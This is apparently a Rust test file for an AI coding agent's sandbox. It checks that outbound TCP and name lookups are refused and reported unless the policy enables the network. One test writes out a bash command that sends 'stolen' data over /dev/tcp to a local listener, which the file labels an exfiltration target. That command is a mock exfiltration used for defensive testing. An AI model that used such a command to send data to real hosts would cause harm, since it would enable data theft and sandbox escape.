//! Issue 8: no network unless the policy says so (issue 27: but loopback for the command's own
//! servers).

use crate::support::sandbox::{Scratch, supported};
use dracode_sandbox::SandboxMode;
use dracode_sandbox::incidents::Report;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// A listener on 127.0.0.1 counting the connections it accepts (the exfiltration target).
fn listener() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let seen = count.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            if stream.is_ok() {
                seen.fetch_add(1, Ordering::SeqCst);
            }
        }
    });
    (port, count)
}

#[tokio::test]
async fn sandbox_blocks_the_network_unless_allowed() {
    if !supported() {
        return;
    }
    let s = Scratch::new();
    let (port, accepted) = listener();
    let script = format!("bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}' && echo connected");
    let mut policy = s.policy(SandboxMode::WorkspaceWrite);
    let f = s.sh(&policy, &script).await;
    assert!(!f.output.contains("connected"), "{}", f.output);
    // Loopback TCP sockets exist (a command may serve itself), but reach only the command's
    // own listeners: the test's is refused, and reported.
    assert!(f.output.contains("Permission denied"), "{}", f.output);
    assert_eq!(accepted.load(Ordering::SeqCst), 0);
    let reported = |r: &Report| matches!(r, Report::NetworkDenied { host, port: p, .. } if host == "127.0.0.1" && *p == port);
    assert!(f.reports.iter().any(reported), "{:?}", f.reports);

    // Unix sockets still work (build tools and git use them), and `network = true` opens TCP.
    let unix =
        s.sh(&policy, "python3 -c 'import socket; socket.socket(socket.AF_UNIX).close(); print(\"unix-ok\")' 2>&1 || echo no-python").await;
    assert!(unix.output.contains("unix-ok") || unix.output.contains("no-python"), "{}", unix.output);
    policy.network = true;
    let f = s.sh(&policy, &script).await;
    assert!(f.output.contains("connected"), "{}", f.output);
    // The listener thread counts the connection in its own time.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while accepted.load(Ordering::SeqCst) == 0 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    assert_eq!(accepted.load(Ordering::SeqCst), 1);
}

/// Issue 29: a name lookup with the network off is reported like a refused connection — a
/// `network.denied` event naming the command, counted in `task.finished` — and the model is told
/// why its lookup failed.
#[test]
fn sandbox_a_name_lookup_with_the_network_off_is_reported_and_explained() {
    if !supported() {
        return;
    }
    let s = super::attacks::Scenario::new();
    let commands = [
        "getent hosts example.invalid; echo rc=$?".to_string(),
        "python3 -c \"import socket; socket.getaddrinfo('example.com', 80)\" 2>&1 | tail -n 1".to_string(),
    ];
    let r = s.run("lookup", &commands, "", &[], &[]);
    r.assert_finished("passed");
    let denied: Vec<&serde_json::Value> = r.events.iter().filter(|e| e["type"] == "network.denied").collect();
    let getent = denied.iter().find(|e| e["command"].as_str().is_some_and(|c| c.contains("getent hosts example.invalid")));
    let getent = getent.unwrap_or_else(|| panic!("no network.denied for the lookup: {denied:?}\n{}", r.all_output()));
    assert!(getent["reason"].as_str().is_some_and(|why| why.contains("name lookup")), "{getent}");
    // A name lookup names no host to allow (it said `udp`), and says whose it was.
    assert_eq!(
        (getent["host"].as_str(), getent["lookup"].as_bool(), getent["phase"].as_str()),
        (Some(""), Some(true), Some("agent")),
        "{getent}"
    );
    let finished = crate::support::cli::finished(&r.events, "attack");
    assert!(finished["network_denied"].as_u64().is_some_and(|n| n >= 1), "{finished}");
    assert!(!finished["network_denied_hosts"].to_string().contains("udp"), "{finished}");
    let out = r.outputs();
    for (i, output) in out.iter().enumerate().take(2) {
        assert!(output.contains("[dracode: the sandbox refused") && output.contains("name lookup"), "command {i}: {output}");
    }
}

/// A check that fails on a name lookup with the network off says why in its output (what the
/// summary, the FAIL line and a repair round show), as a command of the agent's does.
#[test]
fn sandbox_a_check_that_fails_on_a_name_lookup_says_the_network_was_refused() {
    if !supported() {
        return;
    }
    let s = super::attacks::Scenario::new();
    let r = s.run("checklookup", &[], "check = \"getent hosts example.invalid\"", &[], &[]);
    r.assert_finished("failed");
    let finished = crate::support::cli::finished(&r.events, "attack");
    let tail = finished["check"]["output_tail"].as_str().unwrap_or("");
    assert!(tail.contains("[dracode: the sandbox refused") && tail.contains("name lookup"), "{finished}");
    // The lookup was the check's, not the agent's: the event says so, and the report page
    // shows it as the check's (a neutral `check net 1`), not as the agent's red `net 1`.
    let denied: Vec<&serde_json::Value> = r.events.iter().filter(|e| e["type"] == "network.denied").collect();
    assert!(!denied.is_empty() && denied.iter().all(|e| e["phase"] == "check" && e["lookup"] == true), "{denied:?}");
    let Some(browser) = crate::support::browser::Browser::shared() else { return };
    let page = browser.open(r.out.join("report.html"));
    page.wait_for("document.querySelectorAll('#task-table tr[data-task-id=attack]').length === 1", crate::support::browser::WAIT);
    let tags: Vec<String> = page
        .eval("[...document.querySelectorAll('#task-table tr[data-task-id=attack] .tag.flag')].map(t => t.textContent + '|' + t.className)")
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap_or_default().to_string())
        .collect();
    assert!(tags.iter().any(|t| t.starts_with("check net ") && !t.contains("bad")), "{tags:?}");
    assert!(!tags.iter().any(|t| t.starts_with("net ")), "no agent badge: {tags:?}");
}
